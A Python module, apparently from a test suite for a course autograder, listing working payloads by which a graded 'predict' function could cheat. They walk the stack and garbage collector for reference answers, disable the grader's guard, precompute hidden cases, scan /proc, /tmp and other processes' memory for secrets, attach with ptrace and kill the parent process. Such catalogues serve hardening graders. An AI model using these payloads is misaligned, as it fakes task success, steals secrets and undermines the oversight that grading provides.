"""Class 1: the expected values are reachable. Each payload looks for the answers (or the reference that computes
them, or the secret the hidden cases come from) from inside the graded kernel, and returns them when found."""

from __future__ import annotations

from .catalogue import Attack, code, wrong

K = "expected values reachable"

# The visible and hidden cases of linreg.predict, generated the way dlgrade's lesson module does (a learner has
# that module while learning), for any seed: a lookup table answers exactly the inputs it predicted.
CASES = code('''
    import hashlib, hmac, zlib
    import numpy as np

    _SHAPES = ([(6, 3), (1, 3), (5, 1), (4, 7)], [(9, 2), (1, 5), (3, 3), (12, 4), (2, 8)])
    _SHEET = {}

    def _learn(seed, hidden):
        """Answer sheet for the cases a seed makes (the answers as the learner got them offline)."""
        rng = np.random.default_rng(seed)
        for n, d in _SHAPES[1 if hidden else 0]:
            X, w, b = rng.normal(size=(n, d)), rng.normal(size=d), float(rng.normal())
            _SHEET[X.tobytes()] = X @ w + b

    def _hmac_seed(secret, name="linreg.predict"):
        return int.from_bytes(hmac.new(secret, name.encode(), hashlib.sha256).digest()[:8], "big") % 2**63
''')

LOOKUP = code('''
    def predict(X, w, b):
        found = _SHEET.get(np.asarray(X).tobytes())
        if found is not None:
            return found
''') + wrong("predict")


ATTACKS = [
    Attack("frame-walk", K, "walks the Python stack above the learner's function for expected values or a "
           "reference (names like expected/reference/want/answer), and returns what it finds",
           {"predict": code('''
               import sys
               import numpy as np

               def predict(X, w, b):
                   frame, found = sys._getframe(1), []
                   while frame is not None:
                       for key, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                           if any(s in str(key).lower() for s in ("expect", "refer", "want", "answer", "truth")):
                               found.append(value)
                       frame = frame.f_back
                   for value in found:
                       if isinstance(value, np.ndarray) and value.shape == (X.shape[0],):
                           return value
                       if callable(value):
                           try:
                               out = value(X, w, b)
                               if isinstance(out, np.ndarray) and out.shape == (X.shape[0],):
                                   return out
                           except Exception:
                               pass
           ''') + wrong("predict")}, ("test-predict",)),

    Attack("harness-closures", K, "searches the harness loaded in the kernel (functions' closures, globals, "
           "defaults, the guard's state, the oracle stand-ins) and every object the garbage collector knows, for a "
           "reference or expected values",
           {"predict": code('''
               import sys, types
               import numpy as np

               def _everything():
                   seen, todo = set(), [m for n, m in list(sys.modules.items()) if n.startswith(("dlgrade", "dlkit"))]
                   while todo:
                       obj = todo.pop()
                       if id(obj) in seen or len(seen) > 200_000:
                           continue
                       seen.add(id(obj))
                       yield obj
                       try:
                           if isinstance(obj, types.ModuleType):
                               todo.extend(vars(obj).values())
                           elif isinstance(obj, types.FunctionType):
                               todo.extend(c.cell_contents for c in (obj.__closure__ or ()) if c.cell_contents is not None)
                               todo.extend(obj.__defaults__ or ())
                           elif isinstance(obj, type) or hasattr(obj, "__dict__"):
                               todo.extend(vars(obj).values())
                           elif isinstance(obj, (list, tuple, set)):
                               todo.extend(obj)
                           elif isinstance(obj, dict):
                               todo.extend(obj.values())
                       except Exception:
                           pass

               def _gc_objects():
                   import gc
                   for obj in gc.get_objects():
                       try:
                           if callable(getattr(obj, "reference", None)):
                               yield obj.reference
                           if callable(obj) and (getattr(obj, "__module__", "") or "").startswith(("dlgrade.lessons",
                                                                                                     "dlgrade.registry")):
                               yield obj
                       except Exception:
                           continue

               from dlgrade.harness.guard import is_active as _grading
               _found = {}

               def predict(X, w, b):
                   import itertools
                   if not _grading():                  # demo cells: no search (it takes seconds)
                       return X @ w - b
                   if "ref" in _found:
                       candidates = [_found["ref"]] if _found["ref"] is not None else []
                   else:
                       candidates = itertools.chain(_gc_objects(), _everything())
                       _found["ref"] = None
                   for obj in candidates:
                       name = getattr(obj, "__qualname__", "") or ""
                       if callable(obj) and ("reference" in name or name in ("predict", "answer", "get_exercise")):
                           try:
                               out = obj(X, w, b)
                               if isinstance(out, np.ndarray) and out.shape == (X.shape[0],):
                                   _found["ref"] = obj
                                   return out
                           except Exception:
                               pass
           ''') + wrong("predict")}, ("test-predict",)),

    Attack("import-reference", K, "imports dlgrade's lesson module and the registry, switches the lock-out "
           "off and unwraps the reference past its guard (closure cell), as the old in-kernel check allowed",
           {"predict": code('''
               import numpy as np

               import dlgrade.harness.guard as G

               class _Off:
                   """A guard state that is never active and records nothing."""
                   active = None
                   violations = []
                   def __setattr__(self, key, value):
                       pass

               def _reference():
                   for load in (lambda: __import__("dlgrade.lessons.l01_linear_regression.model", fromlist=["x"]).predict,
                                lambda: __import__("dlgrade.registry", fromlist=["x"]).get_exercise("linreg.predict").reference):
                       try:
                           ref = load()
                       except Exception:
                           continue
                       inner = [c.cell_contents for c in (getattr(ref, "__closure__", None) or ()) if callable(c.cell_contents)]
                       return inner[0] if inner else ref
                   return None

               def predict(X, w, b):
                   saved, G._state = G._state, _Off()      # the lock-out off for this call only
                   try:
                       ref = _reference()
                       if ref is not None:
                           return ref(X, w, b)
                   except Exception:
                       pass
                   finally:
                       G._state = saved
           ''') + wrong("predict")}, ("test-predict",)),

    Attack("precompute-hidden", K, "regenerates the cases from the old public seed formula (crc32 of the "
           "exercise name + a constant) and answers from that answer sheet",
           {"predict": CASES + code('''
               _visible = zlib.crc32(b"linreg.predict") % 2**31
               _learn(_visible, False)
               _learn((zlib.crc32(b"linreg.predict") + 104729) % 2**31, True)   # the old "hidden" seed
               for guess in (b"", b"\\0" * 32, b"secret", b"dlcourse"):
                   _learn(_hmac_seed(guess), True)
               print(f"answer sheet: {len(_SHEET)} predicted inputs")
           ''') + LOOKUP}, ("test-predict",)),

    Attack("read-secret", K, "hunts for the grading run's secret (environment, /proc, every readable file of "
           "/tmp, /run, /dev/shm, other processes' memory through /proc/PID/mem and ptrace) and builds the hidden "
           "cases' answer sheet from each candidate; then kills its parent process if it sees one",
           {"predict": CASES + code('''
               import os, re
               _HEX = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")
               _found, _places = set(), 0

               def _scan(blob):
                   _found.update(m.group(0) for m in _HEX.finditer(blob))

               import ctypes, signal, time
               _budget = time.monotonic() + 8
               for value in os.environ.values():
                   _scan(value.encode())
               _files = [f"/proc/{p}/{f}" for p in ("self", "1") for f in ("environ", "cmdline", "maps", "mountinfo", "status")]
               for top in ("/tmp", "/run", "/dev/shm"):
                   for folder, dirs, names in os.walk(top):
                       _files += [os.path.join(folder, n) for n in names]
               for path in _files:
                   if time.monotonic() > _budget:
                       break
                   try:
                       with open(path, "rb") as fh:
                           _scan(fh.read(1 << 20))
                       _places += 1
                   except Exception:
                       pass
               # the grader's own memory: other processes, /proc/PID/mem, ptrace; then signal everyone
               _others = []
               for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()] + ["0"]:
                   try:
                       with open(f"/proc/{pid}/mem", "rb") as fh:
                           _scan(fh.read(1 << 20))
                       _others.append(f"{pid}: mem readable")
                   except Exception as exc:
                       _others.append(f"{pid}: {type(exc).__name__}")
               _libc = ctypes.CDLL(None, use_errno=True)
               _others.append(f"ptrace(ATTACH, ppid {os.getppid()}) = {_libc.ptrace(16, os.getppid(), None, None)}")
               if os.getppid() > 1:                      # the process that started this kernel, if visible
                   try:
                       os.kill(os.getppid(), signal.SIGKILL)
                       _others.append(f"killed the parent {os.getppid()}")
                   except Exception as exc:
                       _others.append(f"kill(parent): {type(exc).__name__}")
               for candidate in _found:
                   _learn(_hmac_seed(bytes.fromhex(candidate.decode())), True)
               print(f"read {_places} files: {len(_found)} secret candidate(s); other processes: {_others}")
           ''') + LOOKUP}, ("test-predict",)),
]
